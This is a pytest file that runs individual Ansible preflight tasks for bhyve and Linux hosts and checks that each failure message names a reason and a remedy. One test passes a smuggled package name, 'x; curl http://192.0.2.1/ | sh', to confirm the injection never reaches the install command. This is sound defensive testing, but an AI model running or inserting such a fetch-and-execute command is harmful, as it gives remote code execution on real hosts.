# SPDX-License-Identifier: BSD-2-Clause
"""What roles refuse by what a machine has said: each refusal begins with its reason, and ends with a remedy."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from shai_operator.providers.process import COLLECTION

_ROLES = COLLECTION / "roles"
_SYSTEM = ("bhyve_host", "check.yml", "Check the host's system and processor")
_VMM = ("bhyve_host", "programs.yml", "Check that the processor can run virtual machines")
_CLOCK = ("freebsd_guest", "clock.yml", "Check the guest's clock")
_PROGRAMS = ("linux_host", "main.yml", "Check that the host has all programs")


def checked(tmp_path: Path, check: tuple[str, str, str], **registered: Any) -> tuple[bool, str]:
    """Run one task of a role on what earlier ones have registered; return whether it passes, and the output."""
    role, file, name = check
    tasks = yaml.safe_load((_ROLES / role / "tasks" / file).read_text())
    tasks += [inner for outer in tasks for inner in outer.get("block", ())]
    task = next(task for task in tasks if task["name"] == name)
    files = [_ROLES / role / folder / "main.yml" for folder in ("defaults", "vars")]
    play = {
        "hosts": "localhost", "connection": "local", "gather_facts": False,
        "vars_files": [str(path) for path in files if path.exists()],
        "tasks": [task],
    }  # fmt: skip
    (tmp_path / "play.yml").write_text(json.dumps([play]))
    done = subprocess.run(
        [Path(sys.executable).parent / "ansible-playbook", "--inventory=localhost,",
         "--extra-vars", json.dumps(registered), tmp_path / "play.yml"],
        env={**os.environ, "ANSIBLE_HOME": str(tmp_path), "NO_COLOR": "1"},
        capture_output=True, text=True, check=False,
    )  # fmt: skip
    return done.returncode == 0, " ".join(done.stdout.split())


@pytest.mark.parametrize(
    ("said", "wanted"),
    [
        (["FreeBSD", "amd64", "bootrom"], ""),
        (
            ["FreeBSD", "aarch64", "bootrom"],
            "ArchitectureMismatch: the image is for amd64, and the host is aarch64: choose",
        ),
        (
            ["Linux", "amd64", "bootrom"],
            "NoVirtualization: the host runs Linux, and bhyve is a part of FreeBSD: choose",
        ),
        (["FreeBSD", "amd64"], "NoVirtualization: the host has no boot ROM /rom: install it (pkg install edk2-bhyve)"),
    ],
)
def test_a_host_that_cannot_run_the_image_is_named(tmp_path: Path, said: list[str], wanted: str) -> None:
    found = {"bhyve_host_found": {"stdout_lines": said}, "bhyve_host_image": {"architecture": "amd64"}}
    passed, printed = checked(tmp_path, _SYSTEM, **found, bhyve_host_bootrom="/rom")
    assert (passed, wanted in printed) == (not wanted, True), printed


@pytest.mark.parametrize("behind", [-100_000, 0, 100_000])
def test_a_clock_that_is_wrong_is_named(tmp_path: Path, behind: int) -> None:
    """The limit is far from what the run itself takes."""
    now = subprocess.run(["date", "+%s"], capture_output=True, text=True, check=True).stdout
    said = {"freebsd_guest_time": {"stdout": str(int(now) - behind)}, "freebsd_guest_skew_seconds": 10_000}
    passed, printed = checked(tmp_path, _CLOCK, **said)
    assert passed is (behind == 0), printed
    if behind:
        assert "ClockSkew: the guest's clock differs from the operator's by more than 10000 s" in printed
        assert "set the clock of the host, and see that the guest reaches a time server" in printed


def test_a_host_without_virtualization_is_named(tmp_path: Path) -> None:
    said = {"rc": 1, "stdout": "kldload: can't load vmm\nvmm: processor does not support desired features"}
    passed, printed = checked(tmp_path, _VMM, bhyve_host_vmm=said)
    assert not passed
    assert "NoVirtualization: the module vmm does not start on this host, which says: kldload: can't load" in printed
    assert "switched on in the firmware" in printed
    assert checked(tmp_path, _VMM, bhyve_host_vmm={"rc": 0, "stdout": "loaded"})[0]


@pytest.mark.parametrize(
    ("said", "named"),
    [
        (["image"], ""),
        (
            ["util-linux", "supervisor", "redis-tools", "redis-server", "openssl"],
            "openssl redis-server redis-tools supervisor util-linux",
        ),
        (["openssl", "x; curl http://192.0.2.1/ | sh", "image"], "openssl"),
        (["x; curl http://192.0.2.1/ | sh"], ""),
    ],
)
def test_only_packages_that_were_asked_about_are_in_the_command(tmp_path: Path, said: list[str], named: str) -> None:
    passed, printed = checked(tmp_path, _PROGRAMS, linux_host_lacking={"stdout_lines": said})
    assert (passed, "curl" in printed) == (not named, False), printed
    assert not named or f"(apt-get install --no-install-recommends {named})" in printed


def test_every_package_that_is_asked_about_can_be_named() -> None:
    asked = re.findall(
        r"lacks \S+ (\S+)$|\|\| echo (\S+)$", (_ROLES / "linux_host/tasks/main.yml").read_text(), re.MULTILINE
    )
    named = yaml.safe_load((_ROLES / "linux_host/vars/main.yml").read_text())["linux_host_packages"]
    assert {"".join(words) for words in asked} - {"image"} == set(named)
